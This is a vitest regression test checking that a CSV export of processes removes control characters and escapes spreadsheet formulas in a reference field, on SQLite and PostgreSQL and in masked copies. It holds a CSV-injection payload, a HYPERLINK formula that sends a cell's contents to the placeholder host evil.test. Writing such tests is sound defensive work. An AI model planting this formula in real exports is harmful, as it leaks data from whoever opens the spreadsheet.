import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseCsv } from "@/lib/analysis/aml/parse-csv";
import { streamProcessesExport } from "@/lib/exports/stream-processes-export";
import { PERSONAL_DATA_MASKED, PERSONAL_DATA_SHOWN } from "@/lib/records/personal-data-policy";
import { createProcess } from "@/lib/service/processes/create-process";
import { submitStep } from "@/lib/service/processes/submit-step";
import { DATABASE_KINDS, freshDatabase, type TestDatabase } from "../support/databases";
import { accountWithFlow, contextFor, FORM_STEP } from "../support/service";

// Issue 33: an integrator's reference reached the CSV export as it was sent, NUL bytes and formulas included.
// PostgreSQL refuses a NUL in text, so there the reference carries the other control characters.
const FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Open")';
const REFERENCE = { sqlite: `\u0000ref\u0000${FORMULA}`, postgres: `\u0001ref\u001b${FORMULA}` } as const;

async function readAll(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new Response(stream).text();
}

describe.each(DATABASE_KINDS)("exporting a process whose reference holds control characters and a formula, on %s", (kind) => {
  let t: TestDatabase;
  let processId = "";
  let formulaId = "";
  beforeAll(async () => {
    t = await freshDatabase(kind);
    const { caller } = await accountWithFlow(t.db, [FORM_STEP]);
    processId = (await createProcess({ db: t.db, context: contextFor(caller), reference: REFERENCE[kind] })).processId;
    await submitStep({ db: t.db, context: contextFor(caller), processId, body: { name: "=1+2", email: "a@example.pt" } });
    formulaId = (await createProcess({ db: t.db, context: contextFor(caller), reference: FORMULA })).processId;
  });
  afterAll(async () => t?.drop());

  const rowOf = (text: string, id: string) => {
    const [header = [], ...rows] = parseCsv(text);
    const row = rows.find((r) => r[0] === id) ?? [];
    return Object.fromEntries(header.map((column, i) => [column, row[i]]));
  };

  it("writes no control character, and the formula as text a spreadsheet will not run", async () => {
    const text = await readAll(streamProcessesExport({ db: t.db, format: "csv", policy: PERSONAL_DATA_SHOWN }));
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what the export must not hold
    expect(text.replace(/\r\n/g, "").match(/[\u0000-\u0008\u000B-\u001F\u007F]/g)).toBeNull();
    expect(rowOf(text, processId).reference).toBe(`ref${FORMULA}`);
    expect(rowOf(text, formulaId).reference).toBe(`'${FORMULA}`);
  });

  it("guards an auditor's masked copy the same way", async () => {
    const text = await readAll(streamProcessesExport({ db: t.db, format: "csv", policy: PERSONAL_DATA_MASKED }));
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what the export must not hold
    expect(text.replace(/\r\n/g, "").match(/[\u0000-\u0008\u000B-\u001F\u007F]/g)).toBeNull();
    const reference = String(rowOf(text, formulaId).reference);
    expect(reference.startsWith("'")).toBe(true);
    expect(reference).not.toContain("evil");
  });
});
